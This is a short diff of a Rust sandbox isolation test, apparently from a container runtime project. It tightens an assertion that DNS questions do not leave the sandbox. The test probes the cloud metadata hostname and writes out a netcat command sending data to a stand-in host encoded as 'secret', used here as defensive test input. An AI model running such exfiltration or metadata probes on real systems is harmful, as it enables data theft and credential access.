@@ -39,12 +39,8 @@ pub async fn a_name_leads_to_the_gateway_and_asking_for_it_to_nobody(rig: &Rig) 
     for name in ["box", "metadata.google.internal", "host.containers.internal"] {
         inside.refused(&format!("busybox nslookup {name}")).await;
     }
-    let quiet = |notice: Notice| match notice {
-        Notice::Inside { .. } => panic!("a question left the sandbox"),
-        _ => {}
-    };
     while let Ok(notice) = inside.notices.try_recv() {
-        quiet(notice);
+        assert!(!matches!(notice, Notice::Inside { .. }), "a question left the sandbox");
     }
     let (runtime, generation) = (inside.runtime.clone(), inside.spec.generation.clone());
     let line = "printf hello | busybox timeout 10 busybox nc c2VjcmV0.example.com 5432";
